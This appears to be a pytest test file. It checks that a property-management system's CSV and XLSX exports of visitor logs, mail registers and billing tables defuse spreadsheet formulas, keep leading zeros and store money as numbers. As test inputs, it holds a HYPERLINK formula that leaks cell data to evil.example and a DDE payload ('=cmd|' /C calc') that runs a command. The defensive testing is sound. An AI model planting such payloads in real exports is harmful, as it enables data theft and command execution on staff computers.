"""Exports as staff download them: text stays text, formulas never run, money is a number.

A visitor called `=HYPERLINK(...)` must not become a live link in the spreadsheet (OWASP
CSV injection), a tracking number `00012345` must not lose its zeros, a name `NaN` must
not come out blank: columns are typed by what they hold, not guessed from the value.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal
from typing import Any
from uuid import uuid4
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pytest

from runtime.auth import Role
from tests.conftest import Stack
from tests.helpers import bearer, eventually

SITE = uuid4()
ZONE = ZoneInfo("Asia/Shanghai")  # the default site zone
DESK, MANAGER, ACCOUNTANT = (bearer(role, [SITE]) for role in
                             (Role.RECEPTIONIST, Role.CS_MANAGER, Role.ACCOUNTANT))  # fmt: skip
ADMIN = bearer(Role.GROUP_ADMIN, [])
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(scope="module")
def api(stack: Stack) -> httpx.Client:
    with httpx.Client(base_url=stack.base_url, timeout=30) as client:
        yield client


def business_day(api: httpx.Client) -> datetime:
    """The business clock's now (other tests may have moved it) at the site."""
    now = api.post("/admin/clock", json={"advance_seconds": 0}, headers=ADMIN).json()["now"]
    return datetime.fromisoformat(now).astimezone(ZONE)


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response: httpx.Response) -> list[dict[str, Any]]:
    """Each row as {column: cell}, from the workbook as a spreadsheet reads it."""
    assert response.status_code == 200, response.text
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = list(sheet.iter_rows())
    names = [cell.value for cell in header]
    assert all(cell.data_type == "s" for cell in header)
    return [dict(zip(names, row, strict=True)) for row in rows]


def assert_no_formula_anywhere(response: httpx.Response) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_visitor_log_keeps_text_as_text_and_defuses_formulas(api: httpx.Client) -> None:
    names = {FORMULA: f"'{FORMULA}", "NaN": "NaN", "+86 138 0000 0000": "'+86 138 0000 0000",
             "@SUM(1+1)": "'@SUM(1+1)", "-Anna-": "'-Anna-", "1e5": "1e5"}  # fmt: skip
    visits = {}
    for name in names:
        body = {"visitor_name": name, "visitor_company": "=1+2", "host_unit": "00012",
                "host_name": "Han Meimei", "purpose": "meeting", "party_size": 3,
                "id_checked": False}  # fmt: skip
        created = api.post(f"/sites/{SITE}/visits", json=body, headers=DESK)
        assert created.status_code == 201, created.text
        visits[created.json()["visit_id"]] = name
    day = datetime.fromisoformat(created.json()["registered_at"]).astimezone(ZONE).date()
    params = {"date": day.isoformat()}
    eventually(
        lambda: api.get(f"/sites/{SITE}/visit-log", params=params, headers=DESK).json(),
        lambda rows: set(visits) <= {r["visit_id"] for r in rows},
    )

    as_csv = {row["visit_id"]: row for row in csv_rows(
        api.get(f"/sites/{SITE}/visit-log", params={**params, "format": "csv"}, headers=DESK))}  # fmt: skip
    xlsx = api.get(f"/sites/{SITE}/visit-log", params={**params, "format": "xlsx"}, headers=DESK)
    assert_no_formula_anywhere(xlsx)
    as_xlsx = {row["visit_id"].value: row for row in xlsx_rows(xlsx)}
    for visit_id, name in visits.items():
        for row in (as_csv[visit_id], {k: c.value for k, c in as_xlsx[visit_id].items()}):
            assert row["visitor_name"] == names[name]
            assert row["visitor_company"] == "'=1+2"
            assert row["host_unit"] == "00012"
            assert row["id_checked"] == "false"
        cells = as_xlsx[visit_id]
        assert all(cells[c].data_type == "s" for c in ("visitor_name", "host_unit", "status"))
        assert cells["party_size"].data_type == "n" and cells["party_size"].value == 3
        assert as_csv[visit_id]["party_size"] == "3"


def test_the_mail_register_keeps_tracking_numbers_and_counts_pages(api: httpx.Client) -> None:
    api.put(f"/sites/{SITE}/mail/directory", json={"entries": [{"unit": "00012"}]},
            headers=MANAGER).raise_for_status()  # fmt: skip
    items = [
        {"kind": "parcel", "tracking_number": "00012345", "recipient_unit": "00012",
         "recipient_person": "=cmd|' /C calc'!A0", "carrier": "-SF-"},
        {"kind": "fax", "pages": 12, "recipient_unit": "00012", "recipient_person": "NaN"},
    ]  # fmt: skip
    ids = []
    for item in items:
        created = api.post(f"/sites/{SITE}/mail/items", json=item, headers=DESK)
        assert created.status_code == 201, created.text
        ids.append(created.json()["item_id"])
    day = datetime.fromisoformat(created.json()["received_at"]).astimezone(ZONE).date()
    params = {"date": day.isoformat()}
    rows = eventually(
        lambda: api.get(f"/sites/{SITE}/mail/register", params=params, headers=DESK).json(),
        lambda rows: set(ids) <= {r["item_id"] for r in rows},
    )
    assert len(rows) == 2

    as_csv = csv_rows(
        api.get(f"/sites/{SITE}/mail/register", params={**params, "format": "csv"}, headers=DESK)
    )
    xlsx = api.get(f"/sites/{SITE}/mail/register", params={**params, "format": "xlsx"},
                   headers=DESK)  # fmt: skip
    assert_no_formula_anywhere(xlsx)
    as_xlsx = xlsx_rows(xlsx)
    parcel_csv = next(r for r in as_csv if r["kind"] == "parcel")
    fax_csv = next(r for r in as_csv if r["kind"] == "fax")
    parcel = next(r for r in as_xlsx if r["kind"].value == "parcel")
    fax = next(r for r in as_xlsx if r["kind"].value == "fax")
    assert parcel_csv["tracking_number"] == "00012345"
    assert parcel["tracking_number"].value == "00012345"
    assert parcel["tracking_number"].data_type == "s"
    assert (
        parcel_csv["recipient_person"]
        == parcel["recipient_person"].value
        == ("'=cmd|' /C calc'!A0")
    )
    assert parcel_csv["carrier"] == parcel["carrier"].value == "'-SF-"
    assert fax_csv["recipient_person"] == fax["recipient_person"].value == "NaN"
    assert fax_csv["pages"] == "12" and fax["pages"].value == 12
    assert fax["pages"].data_type == "n"
    assert parcel_csv["pages"] == "" and parcel["pages"].value is None


def test_a_billing_table_has_money_as_numbers_and_units_as_text(api: httpx.Client) -> None:
    base = f"/sites/{SITE}/billing"
    period = business_day(api).strftime("%Y-%m")
    api.put(f"{base}/rates", json={"fee_type": "management", "amount_per_unit": "3.50",
            "effective_from": "2000-01"}, headers=ACCOUNTANT).raise_for_status()  # fmt: skip
    units = [{"unit": "00012", "area_m2": "100.00"}, {"unit": "-5", "area_m2": "10.10"}]
    api.put(f"{base}/units", json={"units": units}, headers=ACCOUNTANT).raise_for_status()
    run = api.post(f"{base}/runs/{period}", headers=ACCOUNTANT)
    assert run.status_code == 200, run.text
    params = {"period": period}
    eventually(
        lambda: api.get(f"{base}/receivable", params=params, headers=ACCOUNTANT).json(),
        lambda table: len(table["units"]) == 2,
    )

    as_csv = {r["unit"]: r for r in csv_rows(
        api.get(f"{base}/receivable", params={**params, "format": "csv"}, headers=ACCOUNTANT))}  # fmt: skip
    xlsx = api.get(f"{base}/receivable", params={**params, "format": "xlsx"}, headers=ACCOUNTANT)
    assert_no_formula_anywhere(xlsx)
    as_xlsx = {r["unit"].value: r for r in xlsx_rows(xlsx)}
    assert set(as_csv) == set(as_xlsx) == {"00012", "'-5", "TOTAL"}
    assert as_csv["00012"]["management"] == "350.00" and as_csv["'-5"]["total"] == "35.35"
    for unit, total in (("00012", "350.00"), ("'-5", "35.35"), ("TOTAL", "385.35")):
        cell = as_xlsx[unit]["total"]
        assert cell.data_type == "n" and Decimal(str(cell.value)) == Decimal(total)
        assert as_xlsx[unit]["unit"].data_type == "s"
